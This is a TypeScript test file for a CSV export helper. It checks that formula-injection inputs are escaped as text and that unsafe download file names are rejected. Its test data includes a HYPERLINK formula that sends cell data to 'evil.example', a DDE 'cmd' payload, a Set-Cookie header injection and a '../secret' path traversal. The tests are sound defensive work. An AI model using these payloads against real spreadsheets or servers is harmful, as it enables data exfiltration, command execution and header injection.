import { expect, test } from 'vitest'
import { csvReply } from './csv.ts'
import { FileReply } from './file-reply.ts'

/** Reads what RFC 4180 says, and nothing more. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]]
  let at = 0
  while (at < text.length) {
    let cell = ''
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (text[at] === '"') at += 1
        cell += text[at]
      }
      at += 1
    } else while (at < text.length && text[at] !== ',' && text[at] !== '\r') cell += text[at++]
    rows.at(-1)?.push(cell)
    if (text[at] === ',') at += 1
    else if (text.startsWith('\r\n', at)) {
      at += 2
      if (at < text.length) rows.push([])
    } else if (at < text.length) throw new Error(`Nothing that RFC 4180 knows at ${at}`)
  }
  return rows
}

function cellsOf(values: readonly (string | number | null)[]): string[] {
  const { content } = csvReply('names.csv', [{ heading: 'name', value: (value: string | number | null) => value }], values)
  return parse(String(content))
    .slice(1)
    .map(([cell = '']) => cell)
}

const formulas = [
  ...[
    '=1+1',
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    '+1+1',
    '-1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
  ],
  ...['\u0000=1+1', '=', '-', '--5', '+5', '-5 %', '＝1+1', '＋1', '－1+1', '＠x', '=1+1"', '=1+1,x', '-1.2.3'],
]

test.each(formulas)('S59: %j is text for a spreadsheet, and nothing of it is lost', (formula) => {
  expect(cellsOf([formula])).toEqual([`'${formula}`])
})

test('S59: what is a number stays one, also below zero', () => {
  expect(cellsOf([-5, 0, 12.5, '-12.00', '0', '1250.00', null])).toEqual(['-5', '0', '12.5', '-12.00', '0', '1250.00', ''])
})

test('S59: commas, quotes and lines in a name are part of the name', () => {
  const names = [
    'Ada, Countess',
    'Ada "Ada" Lovelace',
    '"',
    '""',
    'one\ntwo',
    'one\r\ntwo',
    'a;b',
    ' Ada ',
    'Müller & Søn 日本',
    "O'Hara",
    'a=1',
  ]
  expect(cellsOf(names)).toEqual(names)
  expect(String(csvReply('names.csv', [{ heading: 'name', value: () => 'x' }], [1]).content)).toBe('name\r\nx\r\n')
})

test.each(['', 'a b.csv', 'a"b.csv', 'a\r\nSet-Cookie: x.csv', '../secret', '.hidden', 'a/b.csv', 'ä.csv', `${'a'.repeat(101)}`])(
  'S62: no file is called %j',
  (fileName) => {
    expect(() => new FileReply({ contentType: 'text/csv; charset=utf-8', fileName, content: '' })).toThrow()
  },
)
